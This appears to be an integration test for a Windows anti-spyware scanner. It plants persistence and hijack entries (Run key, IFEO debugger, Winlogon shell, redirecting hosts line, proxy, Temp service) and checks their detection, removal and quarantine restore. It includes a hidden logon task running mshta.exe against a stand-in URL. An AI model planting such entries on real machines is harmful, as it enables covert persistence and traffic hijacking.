// The startup places through the real adapters: a machine seeded with a Run
// value to an unsigned program in the roaming data, a redirecting hosts line
// beside blocking ones, a proxy towards this machine, a user's Winlogon
// shell, a debugger on notepad.exe, a shortcut in the Startup folder, a
// browser shortcut with an address in the Start menu, a service whose
// program is in Temp and a hidden scheduled task; scanned, reported, removed
// and restored from the quarantine.

#include <gtest/gtest.h>

#include <windows.h>

#include <shlobj.h>
#include <taskschd.h>

#include <cstring>
#include <fstream>
#include <optional>
#include <sstream>

#include "app/program.h"
#include "core/application.h"
#include "i18n/languages.h"
#include "platform/win32/com_handles.h"
#include "platform/win32/handles.h"
#include "platform/win32/platform_win32.h"
#include "platform/win32/wide_text.h"
#include "removal/quarantine_index.h"
#include "removal/quarantine_restore.h"
#include "removal/removal_run.h"
#include "report/scan_report.h"
#include "scan/finding_lists.h"
#include "startup_items/startup_report.h"
#include "startup_items/startup_scan.h"
#include "temp_folder.h"

namespace {

using platform::win32::UniqueRegKey;

constexpr char kRun[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
constexpr char kInternet[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings";
constexpr char kWinlogon[] = "Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
constexpr char kNotepad[] =
    "Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe";
constexpr char kValueName[] = "StartupItemsWin32Test";

void SetString(HKEY root, const std::string& path, const char* name, const std::string& data) {
    UniqueRegKey key;
    ASSERT_EQ(::RegCreateKeyExA(root, path.c_str(), 0, nullptr, 0, KEY_WRITE | KEY_WOW64_64KEY,
                                nullptr, key.Put(), nullptr),
              ERROR_SUCCESS);
    ASSERT_EQ(
        ::RegSetValueExA(key.Get(), name, 0, REG_SZ, reinterpret_cast<const BYTE*>(data.c_str()),
                         static_cast<DWORD>(data.size() + 1)),
        ERROR_SUCCESS);
}

void SetNumber(HKEY root, const std::string& path, const char* name, DWORD number) {
    UniqueRegKey key;
    ASSERT_EQ(::RegCreateKeyExA(root, path.c_str(), 0, nullptr, 0, KEY_WRITE, nullptr, key.Put(),
                                nullptr),
              ERROR_SUCCESS);
    ASSERT_EQ(::RegSetValueExA(key.Get(), name, 0, REG_DWORD,
                               reinterpret_cast<const BYTE*>(&number), sizeof number),
              ERROR_SUCCESS);
}

std::optional<std::string> String(HKEY root, const std::string& path, const char* name) {
    UniqueRegKey key;
    if (::RegOpenKeyExA(root, path.c_str(), 0, KEY_READ | KEY_WOW64_64KEY, key.Put()) !=
        ERROR_SUCCESS) {
        return std::nullopt;
    }
    char data[1024] = {};
    DWORD size = sizeof data - 1;
    DWORD type = 0;
    if (::RegQueryValueExA(key.Get(), name, nullptr, &type, reinterpret_cast<BYTE*>(data), &size) !=
        ERROR_SUCCESS) {
        return std::nullopt;
    }
    return std::string(data);
}

// A registry value as it was before the test, put back afterwards.
class SavedValue {
public:
    SavedValue(HKEY root, std::string path, const char* name)
        : m_root(root), m_path(std::move(path)), m_name(name) {
        UniqueRegKey key;
        if (::RegOpenKeyExA(m_root, m_path.c_str(), 0, KEY_READ | KEY_WOW64_64KEY, key.Put()) ==
            ERROR_SUCCESS) {
            DWORD size = 0;
            if (::RegQueryValueExA(key.Get(), m_name, nullptr, &m_type, nullptr, &size) ==
                ERROR_SUCCESS) {
                m_data.resize(size);
                m_saved = ::RegQueryValueExA(key.Get(), m_name, nullptr, &m_type,
                                             reinterpret_cast<BYTE*>(m_data.data()),
                                             &size) == ERROR_SUCCESS;
            }
        }
    }
    ~SavedValue() {
        UniqueRegKey key;
        if (::RegCreateKeyExA(m_root, m_path.c_str(), 0, nullptr, 0, KEY_WRITE | KEY_WOW64_64KEY,
                              nullptr, key.Put(), nullptr) != ERROR_SUCCESS) {
            return;
        }
        if (m_saved) {
            ::RegSetValueExA(key.Get(), m_name, 0, m_type,
                             reinterpret_cast<const BYTE*>(m_data.data()),
                             static_cast<DWORD>(m_data.size()));
        } else {
            ::RegDeleteValueA(key.Get(), m_name);
        }
    }
    SavedValue(const SavedValue&) = delete;
    SavedValue& operator=(const SavedValue&) = delete;

private:
    HKEY m_root;
    std::string m_path;
    const char* m_name;
    DWORD m_type = REG_NONE;
    std::string m_data;
    bool m_saved = false;
};

// The hosts file as it was, put back afterwards (or removed if there was none).
class SavedFile {
public:
    explicit SavedFile(std::string path) : m_path(std::move(path)) {
        std::ifstream in(m_path, std::ios::binary);
        if (in) {
            std::ostringstream text;
            text << in.rdbuf();
            m_content = text.str();
        }
    }
    ~SavedFile() {
        if (m_content) {
            std::ofstream(m_path, std::ios::binary | std::ios::trunc) << *m_content;
        } else {
            ::DeleteFileA(m_path.c_str());
        }
    }
    SavedFile(const SavedFile&) = delete;
    SavedFile& operator=(const SavedFile&) = delete;

private:
    std::string m_path;
    std::optional<std::string> m_content;
};

// A shell link made as the shell makes it.
bool MakeShortcut(const std::string& path, const std::string& target,
                  const std::string& arguments) {
    const platform::win32::ComScope com;
    platform::win32::ComPtr<IShellLinkA> link;
    platform::win32::ComPtr<IPersistFile> file;
    return com.Usable() &&
           SUCCEEDED(::CoCreateInstance(CLSID_ShellLink, nullptr, CLSCTX_INPROC_SERVER,
                                        IID_IShellLinkA, link.PutVoid())) &&
           SUCCEEDED(link->SetPath(target.c_str())) &&
           SUCCEEDED(link->SetArguments(arguments.c_str())) &&
           SUCCEEDED(link->QueryInterface(IID_IPersistFile, file.PutVoid())) &&
           SUCCEEDED(file->Save(platform::win32::WideFromProgramText(path).c_str(), TRUE));
}

// A service of the service control manager for as long as the object lives.
class TestService {
public:
    TestService(const char* name, const std::string& image) {
        const platform::win32::UniqueServiceHandle manager{
            ::OpenSCManagerA(nullptr, nullptr, SC_MANAGER_CREATE_SERVICE)};
        if (manager) {
            m_service.Reset(::CreateServiceA(
                manager.Get(), name, "Startup Items Test Service", SERVICE_ALL_ACCESS,
                SERVICE_WIN32_OWN_PROCESS, SERVICE_DEMAND_START, SERVICE_ERROR_IGNORE,
                image.c_str(), nullptr, nullptr, nullptr, nullptr, nullptr));
        }
    }
    ~TestService() {
        if (m_service) {
            ::DeleteService(m_service.Get());
        }
    }
    TestService(const TestService&) = delete;
    TestService& operator=(const TestService&) = delete;

    [[nodiscard]] bool Created() const noexcept { return m_service.IsValid(); }

private:
    platform::win32::UniqueServiceHandle m_service;
};

// A task of the Task Scheduler's root folder for as long as the object lives,
// registered from its XML as the scheduler's own tools do.
class TestTask {
public:
    TestTask(const char* name, const std::string& xml) : m_name(name) {
        VARIANT none;
        ::VariantInit(&none);
        const platform::win32::UniqueBstr root("\\");
        const platform::win32::UniqueBstr taskName(name);
        const platform::win32::UniqueBstr definition(xml);
        platform::win32::ComPtr<ITaskService> service;
        platform::win32::ComPtr<IRegisteredTask> task;
        m_created = m_com.Usable() &&
                    SUCCEEDED(::CoCreateInstance(CLSID_TaskScheduler, nullptr, CLSCTX_INPROC_SERVER,
                                                 IID_ITaskService, service.PutVoid())) &&
                    SUCCEEDED(service->Connect(none, none, none, none)) &&
                    SUCCEEDED(service->GetFolder(root.Get(), m_folder.Put())) &&
                    SUCCEEDED(m_folder->RegisterTask(
                        taskName.Get(), definition.Get(), TASK_CREATE_OR_UPDATE, none, none,
                        TASK_LOGON_INTERACTIVE_TOKEN, none, task.Put()));
    }
    ~TestTask() {
        if (m_created) {
            const platform::win32::UniqueBstr taskName(m_name);
            m_folder->DeleteTask(taskName.Get(), 0);
        }
    }
    TestTask(const TestTask&) = delete;
    TestTask& operator=(const TestTask&) = delete;

    [[nodiscard]] bool Created() const noexcept { return m_created; }

private:
    platform::win32::ComScope m_com;
    platform::win32::ComPtr<ITaskFolder> m_folder;
    std::string m_name;
    bool m_created = false;
};

std::string FileText(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
}

std::string SystemFolder() {
    char folder[MAX_PATH] = {};
    ::GetSystemDirectoryA(folder, MAX_PATH);
    return folder;
}

class StartupItemsWin32 : public ::testing::Test {
protected:
    StartupItemsWin32() { app::AttachProgram(app); }
    void SetUp() override {
        app.DataFolder = data.Path();
        auto catalogue = std::make_unique<i18n::clsLanguages>(
            app.ports.fileSystem, app.ports.textCodec, data.Path(), app.branding, data.Path());
        i18n::LoadBuiltInMessages(*catalogue);
        app.Catalogue = std::move(catalogue);
    }

    bool HasFinding(const std::string& start) {
        const ui::ListView& removal = *app.frmMain.lvwPicRemoveListOfSpywareFoundAndToBeRemoved;
        for (int row = 0; row < removal.ItemCount(); ++row) {
            if (removal.Item(row).text.rfind(start, 0) == 0) {
                return true;
            }
        }
        return false;
    }

    win32_tests::TempFolder data;
    platform::win32::Win32Platform platform;
    core::Application app{platform.Ports()};
};

TEST_F(StartupItemsWin32, SeededEntriesAreFoundReportedRemovedAndRestored) {
    const std::string hosts = SystemFolder() + "\\drivers\\etc\\hosts";
    const SavedFile savedHosts(hosts);
    const SavedValue savedRun(HKEY_CURRENT_USER, kRun, kValueName);
    const SavedValue savedEnable(HKEY_CURRENT_USER, kInternet, "ProxyEnable");
    const SavedValue savedServer(HKEY_CURRENT_USER, kInternet, "ProxyServer");
    const SavedValue savedShell(HKEY_CURRENT_USER, kWinlogon, "Shell");
    const SavedValue savedDebugger(HKEY_LOCAL_MACHINE, kNotepad, "Debugger");

    // An unsigned program in a direct sub-folder of the roaming data.
    const std::string roaming =
        app.ports.shellFolders.FolderPath(platform::csidl::kAppData).value();
    const std::string folder = roaming + "\\StartupItemsWin32Test";
    const std::string program = folder + "\\upd.exe";
    ::CreateDirectoryA(folder.c_str(), nullptr);
    ASSERT_TRUE(::CopyFileA(TEST_PROGRAMS_DIR "/plain_sleeper.exe", program.c_str(), FALSE));
    SetString(HKEY_CURRENT_USER, kRun, kValueName, "\"" + program + "\" /quiet");
    // A fresh prefix may have no hosts file, nor its folder.
    ::CreateDirectoryA((SystemFolder() + "\\drivers").c_str(), nullptr);
    ::CreateDirectoryA((SystemFolder() + "\\drivers\\etc").c_str(), nullptr);
    const std::string hostsText =
        "127.0.0.1 localhost\r\n0.0.0.0 ads.example\r\n10.6.6.6 bank.example\r\n";
    std::ofstream(hosts, std::ios::binary | std::ios::trunc) << hostsText;
    SetNumber(HKEY_CURRENT_USER, kInternet, "ProxyEnable", 1);
    SetString(HKEY_CURRENT_USER, kInternet, "ProxyServer", "127.0.0.1:8080");
    SetString(HKEY_CURRENT_USER, kWinlogon, "Shell", program);
    SetString(HKEY_LOCAL_MACHINE, kNotepad, "Debugger", program);

    // A shortcut in the user's Startup folder to the same program, and a
    // browser's shortcut on the desktop that opens an address.
    const std::string startup =
        app.ports.shellFolders.FolderPath(platform::csidl::kStartup).value();
    const std::string startupLink = startup + "\\StartupItemsWin32Test.lnk";
    ::CreateDirectoryA(startup.c_str(), nullptr);
    ASSERT_TRUE(MakeShortcut(startupLink, program, ""));
    const std::string chrome = folder + "\\chrome.exe";
    ASSERT_TRUE(::CopyFileA(TEST_PROGRAMS_DIR "/plain_sleeper.exe", chrome.c_str(), FALSE));
    // In the Start menu: Wine's desktop is a link to the Unix one, through
    // which nothing is changed.
    const std::string programs =
        app.ports.shellFolders.FolderPath(platform::csidl::kPrograms).value();
    const std::string browserLink = programs + "\\StartupItemsWin32Test Chrome.lnk";
    ::CreateDirectoryA(programs.c_str(), nullptr);
    ASSERT_TRUE(MakeShortcut(browserLink, chrome, "http://start.example"));

    // A service whose program is in the temporary folder.
    const std::string serviceImage = data / "svc.exe";
    ASSERT_TRUE(::CopyFileA(TEST_PROGRAMS_DIR "/plain_sleeper.exe", serviceImage.c_str(), FALSE));
    const TestService service("StartupItemsWin32Svc", "\"" + serviceImage + "\" -run");
    ASSERT_TRUE(service.Created());

    const TestTask task(
        "StartupItemsWin32Task",
        "<?xml version=\"1.0\"?>\n"
        "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
        "  <Settings><Hidden>true</Hidden></Settings>\n"
        "  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\n"
        "  <Actions><Exec><Command>mshta.exe</Command>"
        "<Arguments>http://x.example/a.hta</Arguments></Exec></Actions>\n"
        "</Task>\n");
    ASSERT_TRUE(task.Created());

    startup_items::ScanStartupItems(app);

    EXPECT_TRUE(HasFinding(std::string("Run ") + kValueName +
                           ": Starts a program that is not validly signed"));
    EXPECT_TRUE(HasFinding("Hosts bank.example: Sends these names"))
        << startup_items::StartupReportSection(app);
    EXPECT_FALSE(HasFinding("Hosts ads.example"));
    EXPECT_TRUE(HasFinding("Proxy ProxyServer: Sends the browser's traffic"));
    EXPECT_TRUE(HasFinding("Winlogon Shell: Starts another program than Explorer"));
    EXPECT_TRUE(HasFinding("IFEO Debugger notepad.exe: Starts another program in place"));
    EXPECT_TRUE(HasFinding("Startup folder StartupItemsWin32Test: Starts a program that is not"));
    EXPECT_TRUE(HasFinding("Service StartupItemsWin32Svc: Starts a program that is not"));
    // Wine's Task Scheduler lists the task and says it is hidden, but gives
    // neither its actions nor its triggers through its interface (nor in the
    // definition's XML it writes back): what a task starts is judged on the
    // fakes.
    EXPECT_NE(startup_items::StartupReportSection(app).find(
                  "Task | " + SystemFolder() + "\\Tasks\\StartupItemsWin32Task (hidden) |"),
              std::string::npos)
        << startup_items::StartupReportSection(app);
    EXPECT_TRUE(
        HasFinding("Browser shortcut StartupItemsWin32Test Chrome: Makes the browser open"));
    // The system's own entries that the prefix has are judged clean.
    for (const startup_items::JudgedEntry& judged : app.startupItems.entries) {
        if (judged.entry.where.find(kValueName) == std::string::npos &&
            judged.entry.where.find("notepad.exe") == std::string::npos &&
            judged.entry.category != startup_items::Category::Hosts &&
            judged.entry.category != startup_items::Category::Proxy &&
            judged.entry.category != startup_items::Category::WinlogonShell &&
            judged.entry.where.find("StartupItemsWin32") == std::string::npos) {
            EXPECT_FALSE(judged.verdict.has_value())
                << judged.entry.where << " " << judged.entry.data;
        }
    }

    report::MakeReport(app);
    const std::string report = FileText(report::ReportPath(app.DataFolder));
    EXPECT_NE(report.find("[Startup Items and Hijack Points]\r\n"), std::string::npos) << report;
    EXPECT_NE(report.find("Run | HKEY_CURRENT_USER\\" + std::string(kRun) + "\\" + kValueName +
                          " | " + program + " /quiet | not signed | "),
              std::string::npos)
        << report;

    scan::cmdSelectAll_Click(app);
    removal::lblRemove_Click(app);
    std::string problems;
    for (const std::string& problem : app.frmDelete.lstProblem->Items()) {
        problems += problem + "\n";
    }
    EXPECT_EQ(problems, "");
    EXPECT_FALSE(String(HKEY_CURRENT_USER, kRun, kValueName).has_value());
    EXPECT_FALSE(String(HKEY_LOCAL_MACHINE, kNotepad, "Debugger").has_value());
    EXPECT_EQ(FileText(hosts),
              "127.0.0.1 localhost\r\n0.0.0.0 ads.example\r\n# 10.6.6.6 bank.example\r\n");
    EXPECT_EQ(String(HKEY_CURRENT_USER, kInternet, "ProxyServer"), "");
    EXPECT_EQ(String(HKEY_CURRENT_USER, kWinlogon, "Shell"), "explorer.exe");
    EXPECT_EQ(::GetFileAttributesA(startupLink.c_str()), INVALID_FILE_ATTRIBUTES);
    ASSERT_TRUE(app.ports.shell.ReadShortcut(browserLink).has_value());
    EXPECT_EQ(app.ports.shell.ReadShortcut(browserLink)->arguments, "");
    EXPECT_EQ(app.ports.services.QueryService("StartupItemsWin32Svc").value().start,
              platform::ServiceStart::Disabled);
    // What went was saved first, where the quarantine window finds it.
    const std::vector<removal::QuarantineEntry> saved =
        removal::ListQuarantine(app.ports.fileSystem, app.ports.textCodec, app.DataFolder);
    for (const removal::QuarantineEntry& entry : saved) {
        EXPECT_TRUE(removal::VerifySavedContent(app.ports.fileSystem, app.ports.hashing,
                                                app.DataFolder, entry))
            << entry.location;
    }

    // Each comes back from the quarantine exactly.
    for (const removal::QuarantineEntry& entry : saved) {
        EXPECT_EQ(removal::RestoreQuarantined(app, entry, removal::RestorePlace::Original).outcome,
                  removal::RestoreOutcome::Restored)
            << entry.location << " " << entry.valueName;
    }
    EXPECT_EQ(String(HKEY_CURRENT_USER, kRun, kValueName), "\"" + program + "\" /quiet");
    EXPECT_EQ(String(HKEY_LOCAL_MACHINE, kNotepad, "Debugger"), program);
    EXPECT_EQ(FileText(hosts), hostsText);
    EXPECT_EQ(String(HKEY_CURRENT_USER, kInternet, "ProxyServer"), "127.0.0.1:8080");
    EXPECT_EQ(String(HKEY_CURRENT_USER, kWinlogon, "Shell"), program);
    EXPECT_NE(::GetFileAttributesA(startupLink.c_str()), INVALID_FILE_ATTRIBUTES);
    EXPECT_EQ(app.ports.shell.ReadShortcut(browserLink).value().arguments, "http://start.example");
    EXPECT_EQ(app.ports.services.QueryService("StartupItemsWin32Svc").value().start,
              platform::ServiceStart::Manual);

    // Wine's task is no finding (see above): its export, deletion and
    // registration from the export through the adapter itself.
    platform::ScheduledTasks& tasks = app.ports.scheduledTasks;
    const std::optional<std::string> xml = tasks.ExportTask("\\StartupItemsWin32Task");
    ASSERT_TRUE(xml.has_value());
    EXPECT_NE(xml->find("<Hidden>true</Hidden>"), std::string::npos) << *xml;
    EXPECT_EQ(tasks.RegisterTask("\\StartupItemsWin32Task", *xml),
              platform::TaskChange::AlreadyThere);
    EXPECT_EQ(tasks.DeleteTask("\\StartupItemsWin32Task"), platform::TaskChange::Done);
    EXPECT_FALSE(tasks.ExportTask("\\StartupItemsWin32Task").has_value());
    EXPECT_EQ(tasks.DeleteTask("\\StartupItemsWin32Task"), platform::TaskChange::NotFound);
    EXPECT_EQ(tasks.RegisterTask("\\StartupItemsWin32Task", *xml), platform::TaskChange::Done);
    EXPECT_TRUE(tasks.ExportTask("\\StartupItemsWin32Task").has_value());

    ::DeleteFileA(browserLink.c_str());
    ::DeleteFileA(startupLink.c_str());
    ::DeleteFileA(chrome.c_str());
    ::DeleteFileA(program.c_str());
    ::RemoveDirectoryA(folder.c_str());
}

}  // namespace
